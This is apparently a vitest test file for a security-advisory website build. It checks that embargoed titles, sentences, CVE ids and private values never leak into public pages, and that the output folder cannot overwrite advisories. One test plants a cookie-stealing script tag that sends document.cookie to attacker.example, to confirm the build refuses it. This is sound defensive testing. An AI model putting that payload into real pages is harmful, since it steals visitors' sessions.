// Attacks on the public site build (`npm run build`, scripts/build-site.ts as a child process, a
// real Astro build) from a copy of the site fixtures. Each failed on main before this change:
// the withheld guard matched only the id, the plain title and attachment names (a CVE id, a title
// in curly quotes or with `\"` in JSON, a quoted sentence got through); the site never ran the
// body rules (a <script>, an HTML comment, a private value reached the page and the OSV record);
// a failed build left the previous dist/; and `--out advisories` deleted the advisories.
// Real builds are slow: the three quoting attacks share one build, and every other case is
// refused before Astro starts.
import { cp, mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { execFile } from 'node:child_process';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, buildFolder, fixtureCopy, runBuild, type BuildRun } from '../site/helpers.ts';

const NOW = '2026-11-29T00:00:00Z';
const cleanup: string[] = [];
afterAll(() => Promise.all(cleanup.map((d) => rm(d, { recursive: true, force: true }))));

/** Builds a copy of the fixtures with `edit` applied, into <tmp>/dist. */
async function buildEdited(edit: Parameters<typeof fixtureCopy>[0], prepare?: (outDir: string) => Promise<void>) {
  const { tmp, advisories } = await fixtureCopy(edit);
  cleanup.push(tmp);
  const outDir = path.join(tmp, 'dist');
  if (prepare) await prepare(outDir);
  const run = await runBuild(['--out', outDir, '--cache-dir', path.join(tmp, 'cache'), '--advisories', advisories], NOW);
  return { tmp, advisories, outDir, run };
}

/** Adds `text` as a paragraph at the end of the Overview section. */
const addToOverview = (text: string) => (source: string) => source.replace(/(## Overview\n\n[^\n]*\n)/, `$1\n${text}\n`);

// Titles of the two withheld fixtures, as a team might write them: quotes, `&` and `<` included.
const QUOTED_TITLE = 'Forged "trusted" roots accepted by rivet-tls';
const ESCAPED_TITLE = 'Chain checks treat a < b & "c" alike in rivet-tls';
const EMBARGOED_SENTENCE = 'An attacker on the network path could present a forged intermediate certificate that rivet-tls then accepted as a trusted root for every host name.';

describe('a public advisory that quotes embargoed ones (one build)', () => {
  let quoted: BuildRun;
  let outDir: string;

  beforeAll(async () => {
    const built = await buildEdited({
      'RSEC-2026-0102.md': (s) => addToOverview(EMBARGOED_SENTENCE)(s.replace(/^title: .*$/m, `title: '${QUOTED_TITLE}'`)),
      'RSEC-2026-0103.md': (s) => s.replace(/^title: .*$/m, `title: '${ESCAPED_TITLE}'`),
      // The quote wraps differently and puts the crate name in backticks: <code> in HTML.
      'RSEC-2026-0101.md': addToOverview(
        `Not to be confused with "${QUOTED_TITLE}" nor with "${ESCAPED_TITLE}". As one report put it, an attacker on the\nnetwork path could present a forged intermediate certificate that \`rivet-tls\` then accepted as a trusted root for every host name.`,
      ),
    });
    quoted = built.run;
    outDir = built.outDir;
  }, 120_000);

  it('should refuse the build (exit 3) and leave no output', () => {
    expect(quoted.code).toBe(3);
    expect(existsSync(outDir)).toBe(false);
  });

  it('should find the title with curly quotes in the page and with \\" in the OSV record', () => {
    expect(quoted.stderr).toContain('site/advisories/RSEC-2026-0101/index.html: names RSEC-2026-0102 (its title), which is not public');
    expect(quoted.stderr).toContain('site/osv/RSEC-2026-0101.json: names RSEC-2026-0102 (its title), which is not public');
  });

  it('should find a title with &, < and " as entities in HTML and escaped in JSON', () => {
    expect(quoted.stderr).toContain('site/advisories/RSEC-2026-0101/index.html: names RSEC-2026-0103 (its title), which is not public');
    expect(quoted.stderr).toContain('site/osv/RSEC-2026-0101.json: names RSEC-2026-0103 (its title), which is not public');
  });

  it('should find a sentence of the embargoed body, wrapped and with markup', () => {
    expect(quoted.stderr).toContain('site/advisories/RSEC-2026-0101/index.html: names RSEC-2026-0102 (a sentence of its text), which is not public');
  });

  it('should name files and advisories, never the embargoed text', () => {
    for (const secret of ['Forged', 'a &lt; b', 'a < b', 'forged intermediate', 'zqxembargocanary7731', 'zqxfuturecanary3304']) expect(quoted.stderr).not.toContain(secret);
  });
});

describe('the validator runs before Astro', () => {
  it('should refuse a public advisory that names an embargoed CVE id (exit 1), and remove the previous output', async () => {
    const { outDir, run } = await buildEdited({ 'RSEC-2026-0101.md': addToOverview('The same release also fixes cve-2026-50102.') }, async (out) => {
      // A previous build, say one made with a forward-moved clock: it must not survive a failed build.
      await mkdir(path.join(out, 'advisories', 'RSEC-2026-0103'), { recursive: true });
      await writeFile(path.join(out, '.disclose-site-build'), 'previous build\n');
      await writeFile(path.join(out, 'advisories', 'RSEC-2026-0103', 'index.html'), '<h1>published too early</h1>');
    });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/RSEC-2026-0101\.md:\d+:\d+: error \[shared-cve\] body: names CVE-2026-50102, the CVE of RSEC-2026-0102/);
    expect(run.stderr).toContain('nothing was built');
    expect(existsSync(outDir)).toBe(false);
  });

  it('should refuse a <script> and an HTML comment in a public body (exit 1)', async () => {
    const { outDir, run } = await buildEdited({
      'RSEC-2026-0101.md': addToOverview('<script>fetch("https://attacker.example/?c=" + document.cookie)</script>\n\n<!-- internal: zqxcommentcanary4512 -->'),
    });
    expect(run.code).toBe(1);
    expect(run.stderr.match(/RSEC-2026-0101\.md:\d+:\d+: error \[body-html\]/g)?.length).toBe(2);
    expect(run.stderr).not.toContain('zqxcommentcanary4512');
    expect(existsSync(outDir)).toBe(false);
  });

  it('should refuse a private value in a public body and in a timeline event (exit 1), naming the field only', async () => {
    const { outDir, run } = await buildEdited({
      'RSEC-2026-0101.md': (s) =>
        addToOverview('Write to zqxprivatecanary5120@example.net for the reproducer.')(
          s.replace(/^links:/m, 'timeline:\n  - at: "2026-09-01T10:00:00Z"\n    event: The zqxprivatecanary5120 reproducer crashes in 3 seconds.\nlinks:'),
        ),
    });
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/RSEC-2026-0101\.md:\d+:\d+: error \[private-leak\] timeline\.0\.event: repeats the value of private\.triage_notes/);
    expect(run.stderr).toMatch(/RSEC-2026-0101\.md:\d+:\d+: error \[body-private\] body: .*private\.reporter_contact/);
    expect(run.stderr).not.toContain('zqxprivatecanary5120');
    expect(existsSync(outDir)).toBe(false);
  });
});

/** Every file under dir with its content, to prove nothing changed. */
async function snapshot(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const e of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (e.isFile()) out[path.relative(dir, path.join(e.parentPath, e.name))] = await readFile(path.join(e.parentPath, e.name), 'utf8');
  }
  return out;
}

describe('--out never points at something that is not a build output', () => {
  it('should refuse `npm run build -- --out advisories` (exit 3) and leave the advisories, drafts included, untouched', async () => {
    // A repository of its own (config, runbook, advisories with an uncommitted draft; the code
    // linked in), so that the command runs exactly as typed, `--out advisories`, from its root.
    const root = await buildFolder();
    cleanup.push(root);
    for (const f of ['astro.config.mjs', 'disclose.config.yaml']) await cp(path.join(ROOT, f), path.join(root, f));
    await cp(path.join(ROOT, 'runbook'), path.join(root, 'runbook'), { recursive: true });
    await cp(path.join(ROOT, 'test/fixtures/site/advisories'), path.join(root, 'advisories'), { recursive: true });
    await writeFile(path.join(root, 'advisories', 'RSEC-2026-0199.md'), '---\nid: RSEC-2026-0199\ntitle: Uncommitted draft\nstatus: draft\n---\nNotes.\n');
    await symlink(path.join(ROOT, 'src'), path.join(root, 'src'));
    const before = await snapshot(path.join(root, 'advisories'));
    const run = await promisify(execFile)(process.execPath, [path.join(ROOT, 'scripts/build-site.ts'), '--out', 'advisories'], {
      cwd: root,
      env: { ...process.env, DISCLOSE_NOW: NOW },
    }).then(
      () => ({ code: 0, stderr: '' }),
      (e: { code: number; stderr: string }) => ({ code: e.code, stderr: e.stderr }),
    );
    expect(run.code).toBe(3);
    expect(run.stderr).toMatch(/will not write the site to advisories: it is advisories\/ or inside it/);
    expect(await snapshot(path.join(root, 'advisories'))).toEqual(before);
  });

  it('should refuse a non-empty folder that no build made (exit 3) and leave it untouched', async () => {
    const { tmp, advisories } = await fixtureCopy();
    cleanup.push(tmp);
    const notes = path.join(tmp, 'notes');
    await mkdir(notes);
    await writeFile(path.join(notes, 'call-with-reporter.txt'), 'notes\n');
    const run = await runBuild(['--out', notes, '--advisories', advisories, '--cache-dir', path.join(tmp, 'cache')], NOW);
    expect(run.code).toBe(3);
    expect(run.stderr).toContain('is not empty and has no .disclose-site-build file');
    expect(await snapshot(notes)).toEqual({ 'call-with-reporter.txt': 'notes\n' });
  });
});
